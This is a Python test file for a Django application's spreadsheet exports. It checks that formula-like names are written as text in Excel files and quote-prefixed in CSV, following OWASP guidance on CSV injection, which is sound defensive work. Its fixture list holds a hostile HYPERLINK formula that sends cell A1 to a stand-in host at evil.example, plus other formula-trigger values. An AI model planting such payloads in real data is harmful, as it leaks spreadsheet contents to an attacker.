"""No cell of an export is a formula (issue 26, OWASP "CSV Injection"): names planted as
"=HYPERLINK(…)", "@SUM(1)", "+1", "-1" come back from every Excel export as text with the value
unchanged, and from the CSV history export prefixed with a single quote."""

import csv
import io

import pytest
import time_machine
from django.contrib.auth import get_user_model
from openpyxl import load_workbook

from engine.calendar import today
from organizations.models import Member, MemberStatus, Organization
from untrusted.cells import csv_value
from workflows.services import case_start

from ..helpers import cst

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "@SUM(1)", "+1", "-1"]


@pytest.fixture
def planted(university):
    u = university
    Organization.objects.filter(pk=u.branch_a.pk).update(name=HOSTILE[0])
    Organization.objects.filter(pk=u.branch_b.pk).update(name=HOSTILE[1])
    for member, name in zip(u.full_a[2:6], HOSTILE):
        Member.objects.filter(pk=member.pk).update(name=name, status=MemberStatus.FULL)
    get_user_model().objects.filter(pk=u.users.sec_a.pk).update(username="+1")
    u.users.sec_a.refresh_from_db()
    u.branch_a.refresh_from_db()
    with time_machine.travel(cst(2026, 7, 11, 9), tick=False):
        case = case_start(
            actor=u.users.sec_a,
            process_id="branch_election",
            organization=u.branch_a,
            subject=HOSTILE[2],
        )
    return case


def _cells(content: bytes) -> list:
    wb = load_workbook(io.BytesIO(content))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_text(content: bytes, expected: set[str], what: str) -> None:
    cells = _cells(content)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert not formulas, (what, formulas)
    values = {c.value for c in cells if isinstance(c.value, str)}
    assert expected <= values, (what, expected - values)
    for c in cells:
        if c.value in HOSTILE:
            assert c.data_type == "s" and c.quotePrefix, (what, c.coordinate, c.value)


def test_every_excel_export_writes_formula_like_names_as_text(university, api, web, planted):
    u = university
    year = today().year
    orgdept, officer = api(u.users.orgdept), api(u.users.officer)
    exports = {
        "compliance (API)": officer.get(
            "/api/compliance/export/", {"organization": u.college.pk, "period": year}
        ),
        "compliance (page)": web(u.users.officer).get(
            "/committee/compliance.xlsx", {"organization": u.college.pk, "period": year}
        ),
        "standards matrix": officer.get(
            "/api/standards/matrix/export/", {"organization": u.college.pk, "period": year}
        ),
        "onboarding export": orgdept.get("/api/onboarding/export/", {"organization": u.school.pk}),
        "党内统计": orgdept.get("/api/onboarding/statistics/", {"organization": u.school.pk}),
    }
    expected = {
        "compliance (API)": set(HOSTILE[:2]),
        "compliance (page)": set(HOSTILE[:2]),
        "standards matrix": set(HOSTILE[:2]),
        "onboarding export": set(HOSTILE),
        # The fixture's members have no birth dates: the checks name every one, with the branch.
        "党内统计": set(HOSTILE),
    }
    for what, r in exports.items():
        assert r.status_code == 200, (what, r.status_code, r.content[:300])
        _assert_text(r.content, expected[what], what)


def test_the_csv_history_export_prefixes_formula_like_values_with_a_quote(university, api, planted):
    r = api(university.users.orgdept).get(f"/api/cases/{planted.pk}/history/export/?format=csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
    values = [v for row in rows[1:] for v in row]
    assert "'+1" in values  # the actor's name
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")], values


def test_csv_value_follows_owasp():
    assert [csv_value(v) for v in (*HOSTILE, "\tx", "\rx", "张三", 5, None)] == [
        "'" + HOSTILE[0],
        "'@SUM(1)",
        "'+1",
        "'-1",
        "'\tx",
        "'\rx",
        "张三",
        5,
        None,
    ]
